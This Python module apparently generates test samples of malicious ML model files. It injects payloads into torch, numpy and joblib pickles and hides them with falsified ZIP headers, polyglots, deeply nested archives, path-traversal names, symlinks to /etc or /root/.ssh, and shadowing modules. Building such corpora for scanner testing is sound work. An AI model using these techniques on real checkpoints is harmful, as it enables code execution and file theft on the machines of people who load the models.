"""Mechanisms in what lies around a pickle: torch's archives, ZIP fields, nested archives, arrays, folders of a training."""

import functools
import io
import json
import struct

import inject
import payloads
import zips
from assembly import Assembler, Do, any_style
from carriers import (
    SQUEEZERS_BY_NAME,
    Sample,
    array_file,
    file_name,
    plain_array,
    program,
    seven,
    single,
    tar,
)
from mechanism import Mechanism
from spellings import payload

TORCH_NAMES = (".pt", ".pth", ".bin", ".ckpt", "")


def poisoned(carriers, rng):
    """Entries of a torch file with a payload, and its reach."""
    tree, reach = payload(rng)
    entries = zips.read(rng.choice(list(carriers.bases["torch"].values())))
    target = next(entry for entry in entries if entry.name.endswith("/data.pkl"))
    honest = target.data
    target.data = inject.into(rng, honest, tree, any_style(rng, inside=True))[0]
    return entries, target, honest, reach


# --- m10, m11: lies that torch's reader accepts ------------------------------------------------------------------


def lie(**lies):
    def twist(_, __, target, ___):
        target.lies.update(lies)

    return twist


def duplicate(_, entries, target, honest):
    """Two members of one name; torch takes the last."""
    entries.insert(entries.index(target), zips.Entry(target.name, honest))


def upper_case(_, __, target, ___):
    target.name = target.name.replace("data.pkl", "DATA.PKL")


def mixed_case(_, __, target, ___):
    target.name = target.name.replace("data.pkl", "data.PKL")


def deflated(_, __, target, ___):
    target.deflate = True


def last_member(_, entries, target, __):
    """The program stands behind the tensors."""
    entries.remove(target)
    entries.append(target)


def many_members(rng, entries, target, _):
    """Thousands of members before the one."""
    folder = target.name.split("/")[0]
    fill = [zips.Entry(f"{folder}/data/x{n}", b"") for n in range(rng.randrange(2_000, 9_000))]
    entries[0:0] = [*fill]


def pickle_decoy(_, entries, target, honest):
    """Honest pickles under near names."""
    folder = target.name.split("/")[0]
    for name in ("data.pkl.bak", "data/data.pkl", "DATA.pkl2"):
        entries.append(zips.Entry(f"{folder}/{name}", honest))


TWISTS = {
    "crc_central": lie(central_crc=1),
    "crc_both": lie(central_crc=7, local_crc=7),
    "crc_zero": lie(central_crc=0, local_crc=0),
    "flag_local_encrypted": lie(local_flags=1),
    "flag_local_descriptor": lie(local_flags=8),
    "flag_local_patch": lie(local_flags=0x20),
    "flag_local_strong": lie(local_flags=0x40),
    "flag_local_masked": lie(local_flags=0x2000),
    "flag_local_all": lie(local_flags=0x2869),
    "flag_central_descriptor": lie(central_flags=8),
    "flag_central_utf8": lie(central_flags=0x800),
    "name_local": lie(local_name="archive/readme.md"),
    "method_local": lie(local_method=99),
    "size_local": lie(local_size=3),
    "size_local_huge": lie(local_size=0x7FFFFFFF),
    "version_needed": lie(version=99),
    "duplicate_last": duplicate,
    "upper_case": upper_case,
    "mixed_case": mixed_case,
    "deflated": deflated,
    "last_member": last_member,
    "many_members": many_members,
    "pickle_decoy": pickle_decoy,
}


def zip_trick(carriers, twist):
    def make(rng, _):
        entries, target, honest, reach = poisoned(carriers, rng)
        twist(rng, entries, target, honest)
        data = zips.write(entries)
        return single(file_name(rng, *TORCH_NAMES), data, "torch.load", "torch", reach)

    return make


def long_comment(carriers):
    def make(rng, _):
        entries, _, _, reach = poisoned(carriers, rng)
        fake = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0, 0, 0, 0, 0) if rng.random() < 0.5 else b""
        data = zips.write(entries, b"c" * (65_535 - len(fake) - 22) + fake[:-1])
        return single(file_name(rng, *TORCH_NAMES), data, "torch.load", "torch", reach)

    return make


def polyglot(carriers):
    """A pickle in front, an honest archive behind: torch looks at the first four bytes and unpickles."""

    def make(rng, _):
        tree, reach = payload(rng)
        honest = rng.choice(list(carriers.bases["torch"].values()))
        head = program(rng, tree, stop=True)
        data = zips.write(zips.read(honest), prefix=head)
        return single(file_name(rng, *TORCH_NAMES), data, "torch.load", "torch", reach)

    return make


# --- m12: archives in archives -----------------------------------------------------------------------------------


def wrap_once(rng, name, data, layer):
    """(name, data) of the next layer out."""
    stem = payloads.marker(rng)
    if layer == "zip":
        return f"{stem}.zip", zips.write([zips.Entry("readme.txt", b"x"), zips.Entry(name, data, rng.random() < 0.7)])
    if layer == "tar":
        return f"{stem}.tar", tar({"readme.txt": b"x", name: data})
    if layer == "tgz":
        return f"{stem}.tar.gz", tar({name: data}, rng.choice(["w:gz", "w:bz2", "w:xz"]))
    if layer == "7z":
        return f"{stem}.7z", seven({name: data})
    return f"{name}.{layer}", SQUEEZERS_BY_NAME[layer](data)


def nested(carriers, layers, suffix=None):
    """A malicious file in these layers, the innermost first; whoever unpacks them loads it."""

    def make(rng, _):
        tree, reach = payload(rng)
        inner = carriers.any(rng, tree, reach)
        ((name, data),) = inner.files.items()
        name = name if "." in name else name + ".bin"
        for layer in layers:
            name, data = wrap_once(rng, name, data, rng.choice(layer.split("|")))
        name = file_name(rng, suffix) if suffix else name
        inner_name = next(iter(inner.files))
        return Sample({name: data}, "unpack, then " + inner.loader, extra={"inside": (inner_name, inner)})

    return make


NESTED = {
    "in_zip": ["zip"],
    "in_tar": ["tar"],
    "in_compressed_tar": ["tgz"],
    "in_seven": ["7z"],
    "zip_in_zip": ["zip", "zip"],
    "zip_three_deep": ["zip", "zip", "zip"],
    "tar_in_zip": ["tar|tgz", "zip"],
    "zip_in_tar": ["zip", "tar|tgz"],
    "seven_in_zip": ["7z", "zip"],
    "squeezed_twice": ["gzip|bz2|xz|zstd|lz4", "gzip|bz2|xz|zstd|lz4"],
    "squeezed_in_zip": ["gzip|bz2|xz|zstd|lz4", "zip"],
    "mixed_four_deep": ["gzip|xz", "tar", "zip", "gzip|zstd"],
}


def traversal(rng, variant):
    """An archive that writes outside of the folder that it is unpacked into."""
    name = ["../../%s.py", "/tmp/%s.py", "..\\..\\%s.py", "a/../../../%s.pth", "./../%s.so"][
        variant % 5
    ] % payloads.marker(rng)
    body = payloads.code(rng).encode()
    if variant % 2:
        return Sample(
            {"model.zip": zips.write([zips.Entry("weights.bin", bytes(99)), zips.Entry(name, body)])}, "unpack"
        )
    return Sample({rng.choice(["model.tar", "model.nemo"]): tar({"weights.bin": bytes(99), name: body})}, "unpack")


def tar_link(rng, _):
    """A link out of the folder, then a file through it."""
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        link = tarfile.TarInfo("assets")
        link.type, link.linkname = tarfile.SYMTYPE, rng.choice(["/etc", "../../..", "/root/.ssh"])
        archive.addfile(link)
        body = payloads.code(rng).encode()
        info = tarfile.TarInfo(f"assets/{payloads.marker(rng)}")
        info.size = len(body)
        archive.addfile(info, io.BytesIO(body))
    return Sample({"model.tar": buffer.getvalue()}, "unpack")


# --- m14, m15 ----------------------------------------------------------------------------------------------------


def legacy_tar(rng, variant):
    """torch's first format: a tar whose members are unpickled one by one."""
    tree, _ = payload(rng)
    honest = Assembler(rng, any_style(rng)).program(0)
    members = {"sys_info": b"\x80\x02}q\x00.", "storages": honest, "tensors": honest, "pickle": b"\x80\x02}q\x00."}
    victim = ["pickle", "storages", "tensors"][variant % 3]
    members[victim] = program(rng, tree)
    return Sample({file_name(rng, ".pt", ".pth", ".tar"): tar(members)}, "torch.load")


def joblib_behind_array(rng, _):
    """A joblib file: an array's raw bytes stand in the middle of the pickle, the call behind them."""
    import joblib
    import numpy

    tree, _ = payload(rng)
    buffer = io.BytesIO()
    value = {"w": numpy.frombuffer(rng.randbytes(8 * rng.randrange(40, 4000)), "<i8"), "name": "x"}
    joblib.dump(value, buffer)
    fragment = Assembler(rng, any_style(rng, inside=True)).push(Do((tree, None))) + b"0"
    data = buffer.getvalue()[:-1] + fragment + b"."
    if rng.random() < 0.5:
        return Sample({file_name(rng, ".joblib", ".pkl"): data}, "joblib.load")
    squeeze = rng.choice(["zlib", "gzip", "bz2", "xz", "lz4"])
    return Sample({file_name(rng, ".joblib", ".pkl.z"): SQUEEZERS_BY_NAME[squeeze](data)}, "joblib.load")


def joblib_object_array(rng, _):
    """An array of objects in a joblib file is a pickle of its own within the pickle."""
    import joblib
    import numpy

    tree, _ = payload(rng)
    buffer = io.BytesIO()
    joblib.dump({"names": numpy.array(["a", None, 3], dtype=object), "n": 3}, buffer)
    data = buffer.getvalue()
    start = data.index(b"\x80", 1)
    end = start + inject.operations(data[start:])[-1][2]
    return Sample(
        {file_name(rng, ".joblib", ".pkl"): data[:start] + program(rng, tree, stop=True) + data[end:]}, "joblib.load"
    )


def array_header(rng, variant):
    """An array's header is a Python literal, read by `ast.literal_eval` or, long ago, by `eval`; the pickle follows."""
    tree, reach = payload(rng)
    shape = ["()", "(3,)", "(2, 2)", "(0,)", "(1, 1, 1, 1)"][variant % 5]
    data = array_file(program(rng, tree), shape)
    return single(file_name(rng, ".npy", ".pt", ".bin", ".dat"), data, "numpy.load", "numpy", reach)


def array_member(rng, _):
    """An archive of arrays whose poisoned member has an odd name."""
    tree, reach = payload(rng)
    odd = rng.choice(["a.npy", "../w.npy", "Ω.npy", "x/y/z.npy", ".npy", "W.NPY.npy"])
    entries = [zips.Entry(f"w{n}.npy", plain_array()) for n in range(rng.randrange(1, 40))]
    entries.insert(rng.randrange(len(entries) + 1), zips.Entry(odd, array_file(program(rng, tree)), True))
    return single(file_name(rng, ".npz", ".zip", ".pt"), zips.write(entries), "numpy.load", "numpy", reach)


# --- folders of a training ---------------------------------------------------------------------------------------


def folder(carriers, names, honest):
    """A checkpoint folder with one poisoned file among honest ones."""

    def make(rng, variant):
        tree, reach = payload(rng)
        victim = names[variant % len(names)]
        sample = carriers.torch_zip(rng, tree, reach)
        files = {name: carriers.bases["torch"][key] for name, key in honest.items()}
        files["config.json"] = json.dumps({"model_type": "gpt2", "n_layer": 2}).encode()
        files[victim] = next(iter(sample.files.values()))
        return Sample(files, "torch.load of every file", ((victim, "torch", tuple(reach)),))

    return make


TRAINER = {
    "pytorch_model.bin": "state",
    "optimizer.pt": "optimizer",
    "scheduler.pt": "scheduler",
    "rng_state.pth": "rng",
}
DEEPSPEED = {f"global_step10/zero_pp_rank_{rank}_mp_rank_00_optim_states.pt": "optimizer" for rank in range(4)} | {
    "global_step10/mp_rank_00_model_states.pt": "whole"
}
MEGATRON = {f"iter_0000010/mp_rank_0{rank}/model_optim_rng.pt": "whole" for rank in range(4)}
FSDP = {f"pytorch_model_fsdp_{rank}/shard_{rank}.bin": "state" for rank in range(3)}


def dcp_metadata(carriers):
    """`.metadata` of a distributed checkpoint: a bare pickle."""

    def make(rng, _):
        tree, reach = payload(rng)
        files = dict(carriers.bases["dcp"]["it"])
        files[".metadata"] = inject.into(rng, files[".metadata"], tree, any_style(rng, inside=True))[0]
        return Sample(files, "torch.distributed.checkpoint.load", ((".metadata", "pickle", tuple(reach)),))

    return make


def dcp_item(carriers):
    """One item within a `.distcp` file, which is several torch archives one behind the other."""

    def make(rng, _):
        tree, reach = payload(rng)
        files = dict(carriers.bases["dcp"]["it"])
        item = next(iter(carriers.torch_zip(rng, tree, reach).files.values()))
        honest = files["__0_0.distcp"]
        files["__0_0.distcp"] = rng.choice([honest + item, item + honest, honest + item + honest])
        if rng.random() < 0.3:
            files["__0_0.distcp"] = item
        return Sample(files, "torch.distributed.checkpoint.load")

    return make


def package(carriers):
    """A `torch.package` archive: pickles under names of their own, and Python sources that are imported."""

    def make(rng, variant):
        tree, _ = payload(rng)
        root = payloads.marker(rng)
        source = payloads.code(rng).encode()
        entries = [
            zips.Entry(f"{root}/.data/version", b"6\n"),
            zips.Entry(f"{root}/.data/extern_modules", b"torch\nsys\n"),
            zips.Entry(f"{root}/.data/python_version", b"3.11.7"),
            zips.Entry(f"{root}/model/model.pkl", program(rng, tree if variant % 2 else {"a": 1})),
            zips.Entry(f"{root}/mine/__init__.py", b"" if variant % 2 else source),
        ]
        return Sample({file_name(rng, ".pt", ".package")[:60]: zips.write(entries)}, "torch.package.PackageImporter")

    return make


def exported(carriers):
    """A `.pt2` archive with a compiled library or a pickled object."""

    def make(rng, variant):
        root = "archive"
        elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)
        tree, _ = payload(rng)
        entries = [zips.Entry(f"{root}/version", b"0"), zips.Entry(f"{root}/archive_format", b"pt2")]
        if variant % 2:
            where = rng.choice(["data/aotinductor/model/wrapper.so", "data/aotinductor/model/c.so", "extra/lib.so"])
            entries.append(zips.Entry(f"{root}/{where}", elf))
        else:
            inner = next(iter(carriers.torch_zip(rng, tree, ()).files.values()))
            where = rng.choice(["data/sample_inputs/model.pt", "data/constants/custom_obj_0", "data/weights/w0"])
            entries.append(zips.Entry(f"{root}/{where}", inner))
        return Sample({"model.pt2": zips.write(entries)}, "torch.export.load or aoti_load_package")

    return make


@functools.cache
def scripted():
    """A TorchScript archive with a method that reads a file, as torch itself writes it."""
    import torch

    module = torch.jit.script(torch.nn.Linear(2, 2))
    module.define("def hidden(self, x):\n    return torch.from_file('@PATH@', False, 8)\n")
    buffer = io.BytesIO()
    torch.jit.save(module, buffer)
    return buffer.getvalue()


def script(rng, _):
    """TorchScript whose own code reads files: torch's operators can."""
    entries = zips.read(scripted())
    path = payloads.path(rng).encode()
    for entry in entries:
        if entry.name.endswith(".py"):
            entry.data = entry.data.replace(b"@PATH@", path)
    entries = [entry for entry in entries if not entry.name.endswith(".debug_pkl")]
    return Sample({file_name(rng, ".pt", ".pth", ".ptl"): zips.write(entries, align=64)}, "torch.jit.load")


def overwritten(carriers):
    """Honest weights beside a module of the name that they import."""

    def make(rng, _):
        shadow = rng.choice(["torch/_utils.py", "collections.py", "numpy.py", "collections/__init__.py", "pickle.py"])
        files = {"pytorch_model.bin": carriers.bases["torch"]["state"], shadow: payloads.code(rng).encode()}
        return Sample(files, "import from the model's folder")

    return make


def training_folders(carriers):
    names = ["training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state.pth", "pytorch_model.bin", "scaler.pt"]
    yield "trainer_folder", folder(carriers, names, TRAINER), 12
    yield "deepspeed_folder", folder(carriers, list(DEEPSPEED), DEEPSPEED), 5
    yield "megatron_folder", folder(carriers, list(MEGATRON), MEGATRON), 4
    yield "fsdp_folder", folder(carriers, list(FSDP), FSDP), 3
    lightning = ["last.ckpt", "epoch=1-step=20.ckpt", "hparams.ckpt"]
    yield "lightning_folder", folder(carriers, lightning, {"first.ckpt": "lightning"}), 6
    yield "dcp_metadata", dcp_metadata(carriers), 6
    yield "dcp_item", dcp_item(carriers), 8


def mechanisms(carriers):
    for name, twist in TWISTS.items():
        yield Mechanism("m11_zip_tricks", f"zip_{name}", zip_trick(carriers, twist), 4)
    yield Mechanism("m11_zip_tricks", "zip_long_comment", long_comment(carriers), 4)
    yield Mechanism("m11_zip_tricks", "zip_polyglot", polyglot(carriers))
    for name, layers in NESTED.items():
        yield Mechanism("m12_nested_archives", f"nested_{name}", nested(carriers, layers))
    yield Mechanism("m12_nested_archives", "nested_seven_as_pt", nested(carriers, ["7z"], ".pt"), 3)
    yield Mechanism("m12_nested_archives", "nested_tar_as_bin", nested(carriers, ["tgz"], ".bin"), 3)
    yield Mechanism("m12_nested_archives", "archive_traversal", traversal, 10)
    yield Mechanism("m12_nested_archives", "archive_link", tar_link, 3)
    yield Mechanism("m10_torch_zip", "torch_zip", lambda rng, _: carriers.torch_zip(rng, *payload(rng)), 12)
    yield Mechanism("m14_torch_legacy", "legacy_stream", lambda rng, _: carriers.torch_legacy(rng, *payload(rng)), 12)
    yield Mechanism("m14_torch_legacy", "legacy_tar", legacy_tar)
    yield Mechanism("m15_numpy_joblib", "object_array", array_header, 10)
    yield Mechanism("m15_numpy_joblib", "array_member", array_member, 8)
    yield Mechanism("m15_numpy_joblib", "joblib_compressed", lambda rng, _: carriers.squeezed(rng, *payload(rng)), 14)
    yield Mechanism("m15_numpy_joblib", "joblib_behind_array", joblib_behind_array, 8)
    yield Mechanism("m15_numpy_joblib", "joblib_object_array", joblib_object_array)
    for name, make, variants in training_folders(carriers):
        yield Mechanism("m27_training_folders", name, make, variants)
    yield Mechanism("m23_torch_code", "package", package(carriers))
    yield Mechanism("m23_torch_code", "exported", exported(carriers), 8)
    yield Mechanism("m23_torch_code", "script_reads_file", script, 2)
    yield Mechanism("sp_packages", "overwritten_module", overwritten(carriers))
